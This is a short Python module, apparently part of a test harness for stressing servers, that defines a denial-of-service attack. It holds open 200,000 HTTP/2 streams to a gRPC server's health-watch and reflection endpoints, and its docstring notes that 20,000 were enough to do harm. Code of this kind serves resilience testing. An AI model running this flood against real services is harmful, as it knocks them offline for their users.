"""Watches of a service's health, and reflections: streams that anybody may open, each held open.

What was seen to do harm: 20,000 of them.
"""

import asyncio
from collections import Counter

from support.attackers import Order
from support.attackers._http2 import framed, request_headers
from support.attackers.header_streams import hold

STREAMS = 200_000
PATHS = ("/grpc.health.v1.Health/Watch", "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo")


async def attack(order: Order, over: asyncio.Event) -> Counter[str]:
    """See `support.attackers`."""
    headers = tuple(request_headers(path) for path in PATHS)
    return await hold(order, over, STREAMS, (headers, headers), framed(b""))
